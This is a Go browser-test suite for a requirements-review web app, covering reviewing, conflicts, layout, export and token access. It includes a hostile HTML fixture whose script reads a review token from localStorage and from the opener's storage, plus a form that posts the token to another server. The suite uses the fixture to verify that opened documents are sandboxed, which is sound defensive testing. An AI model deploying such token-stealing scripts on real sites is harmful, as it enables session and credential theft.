package main

import (
	"cmp"
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/browser"
	"github.com/chromedp/cdproto/target"
	"github.com/chromedp/chromedp"
)

// The parts of TestReviewInBrowser after its first round, each on the page
// as the one before left it (one server, one browser).

// settled waits until the document a navigation opened answers scripts:
// right after a navigation an evaluation may still go to the document
// before it, which Chromium answers "Cannot find context with specified
// id" — the more often the busier the machine.
func settled() chromedp.Action[chromedp.Void] {
	return func(ctx context.Context, t *chromedp.Target) (chromedp.Void, error) {
		for {
			state, err := chromedp.Evaluate[string](`document.readyState`)(ctx, t)
			switch {
			case err == nil && state == "complete":
				return chromedp.Void{}, nil
			case err != nil && !strings.Contains(err.Error(), "Cannot find context"):
				return chromedp.Void{}, err
			}
			select {
			case <-ctx.Done():
				return chromedp.Void{}, ctx.Err()
			case <-time.After(50 * time.Millisecond):
			}
		}
	}
}

func shownReq(id string) chromedp.Action[chromedp.Void] {
	return chromedp.Poll[chromedp.Void](`document.querySelector('#detail .rid')?.textContent === '` + id + `' && document.querySelector('#detail mark') !== null`)
}

func listBadge(id, status string) chromedp.Action[chromedp.Void] {
	return chromedp.WaitVisible(chromedp.CSS(`#list li[data-id="` + id + `"] .badge.` + status))
}

// apiStatus is the review status and reviewer of requirement id as the API
// gives them.
func apiStatus(t *testing.T, srv *reviewServer, id string) (status, by string) {
	t.Helper()
	code, _, body := srv.get(t, "/api/requirements/"+id)
	var d struct {
		ReviewStatus string `json:"review_status"`
		Review       *struct{ By string }
	}
	if err := json.Unmarshal(body, &d); code != 200 || err != nil {
		t.Fatalf("%s: %d %v", id, code, err)
	}
	if d.Review != nil {
		by = d.Review.By
	}
	return d.ReviewStatus, by
}

// browseBulk accepts every requirement the text filter shows, after the
// confirmation.
func browseBulk(t *testing.T, ctx context.Context, srv *reviewServer) {
	ctx, cancel := context.WithTimeout(ctx, 20*time.Second)
	defer cancel()
	var ids []string
	var question string
	err := chromedp.Do(ctx,
		into(&ids, chromedp.Evaluate[[]string](`[...document.querySelectorAll('#list li')].map((li) => li.dataset.id)`)),
		chromedp.Click(chromedp.CSS(`#bulk-accept`)),
		chromedp.WaitVisible(chromedp.CSS(`#bulk-confirm`)),
		into(&question, chromedp.Text(chromedp.CSS(`#bulk-title`))),
		chromedp.Click(chromedp.CSS(`#bulk-confirm`)),
		chromedp.Poll[chromedp.Void](`[...document.querySelectorAll('#list li .badge')].every((b) => b.classList.contains('accepted'))`),
		// Clear the filter for what follows.
		chromedp.Evaluate[chromedp.Void](`(() => { const f = document.querySelector('#f-text'); f.value = ''; f.dispatchEvent(new Event('input')); })()`),
		chromedp.Poll[chromedp.Void](`document.querySelectorAll('#list li').length === 16`),
	)
	if err != nil {
		t.Fatalf("bulk: %v\n%s", err, srv.stderr.String())
	}
	if len(ids) == 0 || len(ids) == 16 || !strings.HasPrefix(question, "Accept ") {
		t.Fatalf("bulk of %q, asked %q", ids, question)
	}
	for _, id := range ids {
		if status, by := apiStatus(t, srv, id); status != "accepted" || by != "tester" {
			t.Errorf("%s after the bulk acceptance: %s by %q", id, status, by)
		}
	}
}

// browseNavigation: the address names the requirement shown, the source
// links the PDF at its page, and Export downloads the export.
func browseNavigation(t *testing.T, ctx context.Context, srv *reviewServer) {
	ctx, cancel := context.WithTimeout(ctx, 20*time.Second)
	defer cancel()
	downloads := t.TempDir()
	var hash, href, page, firstSection string
	var byConfidence, inSection []string
	err := chromedp.Do(ctx,
		// Sorted by confidence, lowest first; then the first section only.
		chromedp.SetValue(chromedp.CSS(`#f-sort`), "confidence"),
		chromedp.Evaluate[chromedp.Void](`document.querySelector('#f-sort').dispatchEvent(new Event('input'))`),
		into(&byConfidence, chromedp.Evaluate[[]string](`[...document.querySelectorAll('#list li')].map((li) => li.dataset.id)`)),
		chromedp.SetValue(chromedp.CSS(`#f-sort`), "id"),
		into(&firstSection, chromedp.Evaluate[string](`(() => { const s = document.querySelector('#f-section');
			s.selectedIndex = 1; s.dispatchEvent(new Event('input')); return s.value; })()`)),
		into(&inSection, chromedp.Evaluate[[]string](`[...document.querySelectorAll('#list li')].map((li) => li.dataset.id)`)),
		chromedp.Evaluate[chromedp.Void](`(() => { const s = document.querySelector('#f-section');
			s.value = ''; s.dispatchEvent(new Event('input')); })()`),
		chromedp.Evaluate[chromedp.Void](`location.hash = '#REQ-010'`),
		shownReq("REQ-010"),
		chromedp.Click(chromedp.CSS(`#list li[data-id="REQ-011"]`)),
		shownReq("REQ-011"),
		into(&hash, chromedp.Evaluate[string](`location.hash`)),
		into(&href, chromedp.Evaluate[string](`document.querySelector('#detail .source a.doc-link').href`)),
		into(&page, chromedp.Text(chromedp.CSS(`#detail .source .page`))),
		chromedp.Func(func(ctx context.Context, _ *chromedp.Target) error {
			_, err := chromedp.CallBrowser(ctx, browser.SetDownloadBehavior,
				browser.SetDownloadBehaviorParams{Behavior: browser.SetDownloadBehaviorBehaviorAllow, DownloadPath: downloads})
			return err
		}),
		chromedp.SetValue(chromedp.CSS(`#export-format`), "csv"),
		chromedp.Click(chromedp.CSS(`#export-button`)),
	)
	if err != nil {
		t.Fatalf("navigation: %v", err)
	}
	var listing struct {
		Requirements []struct {
			ID         string
			Confidence float64
		}
	}
	_, _, body := srv.get(t, "/api/requirements")
	json.Unmarshal(body, &listing)
	sorted := slices.Clone(listing.Requirements)
	slices.SortStableFunc(sorted, func(a, b struct {
		ID         string
		Confidence float64
	}) int {
		return cmp.Or(cmp.Compare(a.Confidence, b.Confidence), cmp.Compare(a.ID, b.ID))
	})
	var wantIDs []string
	for _, r := range sorted {
		wantIDs = append(wantIDs, r.ID)
	}
	if !slices.Equal(byConfidence, wantIDs) {
		t.Errorf("sorted by confidence: %q, want %q", byConfidence, wantIDs)
	}
	var sections struct{ Sections map[string][]string }
	_, _, body = srv.get(t, "/api/sections")
	json.Unmarshal(body, &sections)
	for _, r := range listing.Requirements {
		in := strings.HasPrefix(strings.Join(sections.Sections[r.ID], " › ")+" › ", firstSection+" › ")
		if in != slices.Contains(inSection, r.ID) {
			t.Errorf("section %q: %s (in %q) is shown %v", firstSection, r.ID, sections.Sections[r.ID], !in)
		}
	}
	if firstSection == "" || len(inSection) == 0 {
		t.Errorf("the first section %q shows %q", firstSection, inSection)
	}
	if hash != "#REQ-011" {
		t.Errorf("selecting REQ-011 left the address at %q", hash)
	}
	if !regexp.MustCompile(`^page \d+$`).MatchString(page) || href != srv.url+"api/documents/retention-policy.pdf#"+strings.ReplaceAll(page, " ", "=") {
		t.Errorf("REQ-011's source: %q, link %q", page, href)
	}
	file := filepath.Join(downloads, "requirements-web.csv")
	var got []byte
	for deadline := time.Now().Add(10 * time.Second); time.Now().Before(deadline); time.Sleep(50 * time.Millisecond) {
		if got, err = os.ReadFile(file); err == nil {
			break
		}
	}
	_, _, want := srv.get(t, "/api/export?format=csv")
	if err != nil || string(got) != string(want) || !strings.Contains(string(got), "REQ-011") {
		t.Errorf("the export download: %v, %d bytes, want %d", err, len(got), len(want))
	}
}

// browseLayout: at the width of a phone and of a small tablet the page
// does not scroll sideways, with a decision's changes and the edit form
// shown, and no title in the list is cut off.
func browseLayout(t *testing.T, ctx context.Context) {
	fits := func(dst *[]string) chromedp.Action[chromedp.Void] {
		// After two frames the page is laid out at the new width.
		return into(dst, chromedp.Evaluate[[]string](`new Promise((ok) => requestAnimationFrame(() => requestAnimationFrame(() => ok(
			document.documentElement.scrollWidth <= window.innerWidth ? [] :
			[...document.querySelectorAll('body *')]
				.filter((e) => e.getBoundingClientRect().right > window.innerWidth + 0.5 && e.getClientRects().length)
				.slice(0, 5).map((e) => e.tagName + (e.id ? '#' + e.id : '') + '.' + e.className + ' ' + Math.round(e.getBoundingClientRect().right))
				.concat(['scrollWidth ' + document.documentElement.scrollWidth])))))`, chromedp.EvalAwaitPromise))
	}
	for _, width := range []int64{390, 800} {
		var wide, wideEditing, clipped []string
		ctx, cancel := context.WithTimeout(ctx, 20*time.Second)
		defer cancel()
		err := chromedp.Do(ctx,
			chromedp.EmulateViewport(width, 900),
			chromedp.Evaluate[chromedp.Void](`location.hash = '#REQ-003'`),
			shownReq("REQ-003"),
			fits(&wide),
			into(&clipped, chromedp.Evaluate[[]string](`[...document.querySelectorAll('#list .title')]
				.filter((e) => e.scrollWidth > e.clientWidth + 1 || e.scrollHeight > e.clientHeight + 1).map((e) => e.textContent)`)),
			press('e'),
			chromedp.WaitVisible(chromedp.CSS(`#edit-title`)),
			fits(&wideEditing),
			chromedp.KeyEvent("\x1b"),
		)
		if err != nil {
			t.Fatalf("at %d px: %v", width, err)
		}
		if len(wide) > 0 || len(wideEditing) > 0 {
			t.Errorf("at %d px the page scrolls sideways; wider than the window: %q, with the edit form %q", width, wide, wideEditing)
		}
		if len(clipped) > 0 {
			t.Errorf("at %d px titles are cut off: %q", width, clipped)
		}
	}
	if err := chromedp.Do(ctx, chromedp.EmulateViewport(1280, 860)); err != nil {
		t.Fatal(err)
	}
}

// browseConflict: a second reviewer, in a browser context of their own,
// rejects a requirement the first accepted meanwhile: the page shows what
// changed and who changed it, and applies the rejection on the new version
// when asked; undo takes it back; history and comments show both; reset
// takes the decision away.
func browseConflict(t *testing.T, ctx context.Context, srv *reviewServer) {
	ctx, cancel := context.WithTimeout(ctx, 40*time.Second)
	defer cancel()
	other, cancelOther := chromedp.NewContext(ctx, chromedp.WithNewBrowserContext())
	defer cancelOther()
	var conflict, decision, afterUndo, history, historyTime, comments string
	err := chromedp.Do(other,
		chromedp.Navigate(srv.url+"#REQ-005"),
		settled(),
		chromedp.WaitVisible(chromedp.CSS(`#who-name`)),
		chromedp.SetValue(chromedp.CSS(`#who-name`), "bob"),
		chromedp.Click(chromedp.CSS(`#who-save`)),
		shownReq("REQ-005"),
	)
	if err == nil {
		// Meanwhile the first reviewer accepts it.
		err = chromedp.Do(ctx,
			chromedp.Evaluate[chromedp.Void](`location.hash = '#REQ-005'`),
			shownReq("REQ-005"),
			chromedp.Click(chromedp.CSS(`#accept`)),
			listBadge("REQ-005", "accepted"),
		)
	}
	if err == nil {
		err = chromedp.Do(other,
			chromedp.Click(chromedp.CSS(`#reject`)),
			chromedp.WaitVisible(chromedp.CSS(`#reject-reason`)),
			chromedp.SendKeys(chromedp.CSS(`#reject-reason`), "Only a description"),
			chromedp.Click(chromedp.CSS(`#reject-save`)),
			chromedp.WaitVisible(chromedp.CSS(`#conflict`)),
			into(&conflict, chromedp.Text(chromedp.CSS(`#conflict`))),
			chromedp.Click(chromedp.CSS(`#conflict-reapply`)),
			listBadge("REQ-005", "rejected"),
			chromedp.WaitVisible(chromedp.CSS(`#detail .decision.rejected`)),
			into(&decision, chromedp.Text(chromedp.CSS(`#detail .decision`))),
		)
	}
	if err == nil {
		// The first reviewer, coming back to their page, sees it.
		err = chromedp.Do(ctx,
			chromedp.Evaluate[chromedp.Void](`window.dispatchEvent(new Event('focus'))`),
			listBadge("REQ-005", "rejected"),
		)
	}
	if err == nil {
		err = chromedp.Do(other,
			chromedp.Click(chromedp.CSS(`#undo`)),
			listBadge("REQ-005", "accepted"),
			chromedp.WaitVisible(chromedp.CSS(`#detail .decision.accepted`)),
			into(&afterUndo, chromedp.Text(chromedp.CSS(`#detail .decision`))),
			into(&history, chromedp.Text(chromedp.CSS(`#history`))),
			into(&historyTime, chromedp.Text(chromedp.CSS(`#history time`))),
			chromedp.SendKeys(chromedp.CSS(`#comment-text`), "Ask the records office"),
			chromedp.Click(chromedp.CSS(`#comment-save`)),
			chromedp.Poll[chromedp.Void](`document.querySelector('#comments .comment') !== null`),
			into(&comments, chromedp.Text(chromedp.CSS(`#comments`))),
			// Reset: no decision.
			chromedp.Click(chromedp.CSS(`#reset`)),
			listBadge("REQ-005", "pending"),
			chromedp.Poll[chromedp.Void](`document.querySelector('#detail .decision') === null && document.querySelector('#reset').disabled`),
		)
	}
	if err != nil {
		t.Fatalf("conflict: %v\n%s", err, srv.stderr.String())
	}
	if !regexp.MustCompile(`Now accepted by tester on [^\n]+ GMT\+5:30\.`).MatchString(conflict) || !strings.Contains(conflict, "review_status\tpending\taccepted") {
		t.Errorf("the conflict shows %q", conflict)
	}
	if !strings.Contains(decision, "rejected by bob") || !strings.Contains(decision, "Only a description") {
		t.Errorf("after applying the rejection again: %q", decision)
	}
	if !strings.Contains(afterUndo, "accepted by tester") {
		t.Errorf("after the undo: %q", afterUndo)
	}
	if status, by := apiStatus(t, srv, "REQ-005"); status != "pending" || by != "" {
		t.Errorf("REQ-005 after the reset: %s by %q", status, by)
	}
	if !strings.Contains(history, "tester accepted (was pending)") || !strings.Contains(history, "bob rejected (was accepted)") ||
		!strings.Contains(history, "bob undid the last change: rejected → accepted") {
		t.Errorf("history: %q", history)
	}
	// In the reader's time zone (Asia/Kolkata), named.
	if !strings.Contains(historyTime, "GMT+5:30") {
		t.Errorf("history time %q is not in the browser's zone", historyTime)
	}
	if !strings.Contains(comments, "Ask the records office") || !strings.Contains(comments, "bob") {
		t.Errorf("comments: %q", comments)
	}
}

// browseWithToken serves the job again with --reviewers, where the page
// offers their names, then with a token for alice: the page
// opened at the address with the token takes it out of the address, keeps
// it, sends it with every request, asks no name (the token names alice)
// and records alice's decisions.
func browseWithToken(t *testing.T, ctx context.Context, srv *reviewServer, root string) {
	if code := srv.stop(t); code != 0 {
		t.Fatalf("the review stopped with exit %d", code)
	}
	// With --reviewers the name is picked from them. (REQ-005 is pending
	// again since the conflict's reset.)
	named := startReview(t, "--workspace", root, "--job", "web", "--reviewers", "alice,carol")
	var choices []string
	var decided string
	err := func() error {
		ctx, cancel := context.WithTimeout(ctx, 20*time.Second)
		defer cancel()
		fourth, cancelFourth := chromedp.NewContext(ctx, chromedp.WithNewBrowserContext())
		defer cancelFourth()
		return chromedp.Do(fourth,
			chromedp.Navigate(named.url+"#REQ-005"),
			settled(),
			chromedp.WaitVisible(chromedp.CSS(`#who-pick`)),
			into(&choices, chromedp.Evaluate[[]string](`[...document.querySelectorAll('#who-pick option')].map((o) => o.value)`)),
			chromedp.SetValue(chromedp.CSS(`#who-pick`), "carol"),
			chromedp.Click(chromedp.CSS(`#who-save`)),
			shownReq("REQ-005"),
			chromedp.Click(chromedp.CSS(`#accept`)),
			listBadge("REQ-005", "accepted"),
			chromedp.Click(chromedp.CSS(`#list li[data-id="REQ-005"]`)),
			chromedp.WaitVisible(chromedp.CSS(`#detail .decision.accepted`)),
			into(&decided, chromedp.Text(chromedp.CSS(`#detail .decision`))),
		)
	}()
	if err != nil {
		t.Fatalf("with --reviewers: %v\n%s", err, named.stderr.String())
	}
	if !slices.Equal(choices, []string{"alice", "carol"}) || !strings.Contains(decided, "accepted by carol") {
		t.Errorf("with --reviewers alice,carol: the form offers %q; REQ-005 %q", choices, decided)
	}
	if code := named.stop(t); code != 0 {
		t.Fatalf("the review stopped with exit %d", code)
	}

	withToken := startReview(t, "--workspace", root, "--job", "web", "--allow-remote", "--reviewers", "alice")
	address, _, _ := strings.Cut(withToken.url, " ")
	base, _, found := strings.Cut(address, "#token=")
	if !found {
		t.Fatalf("the review printed %q, no address with a token", withToken.url)
	}
	ctx, cancel := context.WithTimeout(ctx, 30*time.Second)
	defer cancel()
	third, cancelThird := chromedp.NewContext(ctx, chromedp.WithNewBrowserContext())
	defer cancelThird()
	var href, reviewer, decision, refused string
	var asked, canChange bool
	err = chromedp.Do(third,
		// Without the token the API refuses, and the page says why.
		chromedp.Navigate(base),
		settled(),
		chromedp.WaitVisible(chromedp.CSS(`#banner`)),
		into(&refused, chromedp.Text(chromedp.CSS(`#banner`))),
		chromedp.Navigate("about:blank"),
		chromedp.Navigate(address),
		settled(),
		shownReq("REQ-001"),
		into(&href, chromedp.Evaluate[string](`location.href`)),
		into(&asked, chromedp.Evaluate[bool](`document.querySelector('#who').open`)),
		into(&reviewer, chromedp.Text(chromedp.CSS(`#reviewer-name`))),
		into(&canChange, chromedp.Evaluate[bool](`document.querySelector('#reviewer-change') !== null`)),
		// Opened again without the token in the address, the page still has it.
		chromedp.Navigate("about:blank"),
		chromedp.Navigate(base+"#REQ-007"),
		settled(),
		shownReq("REQ-007"),
		chromedp.Click(chromedp.CSS(`#reject`)),
		chromedp.WaitVisible(chromedp.CSS(`#reject-reason`)),
		chromedp.SendKeys(chromedp.CSS(`#reject-reason`), "Out of scope"),
		chromedp.Click(chromedp.CSS(`#reject-save`)),
		listBadge("REQ-007", "rejected"),
		chromedp.Click(chromedp.CSS(`#list li[data-id="REQ-007"]`)),
		chromedp.WaitVisible(chromedp.CSS(`#detail .decision.rejected`)),
		into(&decision, chromedp.Text(chromedp.CSS(`#detail .decision`))),
	)
	if err != nil {
		t.Fatalf("with a token: %v\n%s", err, withToken.stderr.String())
	}
	if strings.Contains(href, "token") || asked || reviewer != "alice" || canChange {
		t.Errorf("opened with the token: address %q, name asked %v, reviewer %q, can change it %v", href, asked, reviewer, canChange)
	}
	if !strings.Contains(refused, "needs its token") {
		t.Errorf("opened without the token: %q", refused)
	}
	if !strings.Contains(decision, "rejected by alice") {
		t.Errorf("REQ-007: %q", decision)
	}
}

// hostileDocument is an input document that, opened from the review page,
// tries to take the reviewer's token, from the page's storage or its
// opener's, and holds a form that posts to another server (the %s).
const hostileDocument = `<!doctype html>
<html><head><title>Retention policy</title></head>
<body>
<h1>Retention of accounting records</h1>
<p>The finance department must retain invoices for ten years.</p>
<p>Records must be stored in the archive in a form that cannot be altered.</p>
<p>Business letters shall be kept for six years.</p>
<script>
  let got = "";
  try { got = localStorage.getItem("creator-review-token") || ""; } catch (e) {}
  try { got = got || opener.localStorage.getItem("creator-review-token") || ""; } catch (e) {}
  document.body.dataset.stolen = got;
</script>
<form id="leak" method="post" action="%s"><input name="token" value=""></form>
</body></html>
`

// TestReviewOpensDocumentsInASandbox: served with --allow-remote, the page
// opens a hostile HTML input document from its source link where the
// document can reach no token: not in storage (its origin is none of the
// page's), not in its address, not through its opener, and it cannot post
// a form (its scripts, even when they run, are in a sandbox).
func TestReviewOpensDocumentsInASandbox(t *testing.T) {
	t.Parallel()
	browser := chromium(t)
	posted := make(chan string, 10)
	collector := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		r.ParseForm()
		posted <- r.Method + " " + r.URL.String() + " " + r.Form.Encode()
	}))
	defer collector.Close()
	doc := filepath.Join(t.TempDir(), "policy.html")
	if err := os.WriteFile(doc, []byte(fmt.Sprintf(hostileDocument, collector.URL+"/leak")), 0o644); err != nil {
		t.Fatal(err)
	}
	dir := runBuiltin(t, doc, "hostile")
	srv := startReview(t, "--workspace", filepath.Dir(dir), "--job", "hostile", "--allow-remote", "--reviewers", "alice")
	address, _, _ := strings.Cut(srv.url, " ")
	_, token, found := strings.Cut(address, "#token=")
	if !found || len(token) < 32 {
		t.Fatalf("the review printed %q, no address with a token", srv.url)
	}

	opts := append(chromedp.DefaultExecAllocatorOptions[:], chromedp.ExecPath(browser), chromedp.NoSandbox, chromedp.DisableGPU,
		chromedp.UserDataDir(t.TempDir()), chromedp.Flag("disable-quic", true), chromedp.Flag("disable-component-update", true))
	alloc, cancelAlloc := chromedp.NewExecAllocator(context.Background(), opts...)
	defer cancelAlloc()
	ctx, cancelCtx := chromedp.NewContext(alloc)
	defer cancelCtx()
	ctx, cancel := context.WithTimeout(ctx, 60*time.Second)
	defer cancel()

	opened := chromedp.WaitNewTarget(ctx, func(info *target.Info) bool { return info.URL != "" && info.URL != "about:blank" })
	var link string
	err := chromedp.Do(ctx,
		chromedp.Navigate(address),
		settled(),
		shownReq("REQ-001"),
		into(&link, chromedp.Text(chromedp.CSS(`#detail .source a.doc-link`))),
		chromedp.Click(chromedp.CSS(`#detail .source a.doc-link`)),
	)
	if err != nil {
		t.Fatalf("the page: %v\n%s", err, srv.stderr.String())
	}
	var id target.ID
	select {
	case id = <-opened:
	case <-ctx.Done():
		t.Fatalf("%q opened no tab", link)
	}
	tab, cancelTab := chromedp.NewContext(ctx, chromedp.WithTargetID(id))
	defer cancelTab()
	// What the document reaches, as its own scripts would: the token in
	// its storage or its opener's, its address, its cookies.
	var reach struct {
		URL, Origin, Text, Stolen, Storage, Opener, Cookie string
	}
	err = chromedp.Do(tab,
		chromedp.Poll[chromedp.Void](`document.readyState === 'complete' && document.body !== null && document.body.textContent.includes('ten years')`),
		into(&reach, chromedp.Evaluate[struct{ URL, Origin, Text, Stolen, Storage, Opener, Cookie string }](`(() => {
			const r = { URL: location.href, Origin: self.origin, Text: document.body.textContent, Stolen: document.body.dataset.stolen || "" };
			try { r.Storage = JSON.stringify({ ...localStorage }); } catch (e) { r.Storage = "refused: " + e.name; }
			try { r.Opener = opener === null ? "none" : JSON.stringify({ ...opener.localStorage }); } catch (e) { r.Opener = "refused: " + e.name; }
			try { r.Cookie = document.cookie; } catch (e) { r.Cookie = "refused: " + e.name; }
			return r;
		})()`)),
		// The document's form posts the token's place elsewhere.
		chromedp.Evaluate[chromedp.Void](`document.querySelector('#leak').submit()`),
	)
	if err != nil {
		t.Fatalf("the document %q: %v", link, err)
	}
	t.Logf("the document: %+v", reach)
	for what, v := range map[string]string{"its address": reach.URL, "its storage": reach.Storage, "its opener": reach.Opener,
		"its cookies": reach.Cookie, "its text": reach.Text, "its scripts": reach.Stolen} {
		if strings.Contains(v, token) {
			t.Errorf("the document reaches the reviewer's token through %s: %q", what, v)
		}
	}
	if reach.Origin != "null" {
		t.Errorf("the document runs in the origin %q, not in a sandbox", reach.Origin)
	}
	select {
	case got := <-posted:
		t.Errorf("the document posted a form: %s", got)
	case <-time.After(time.Second):
	}
}
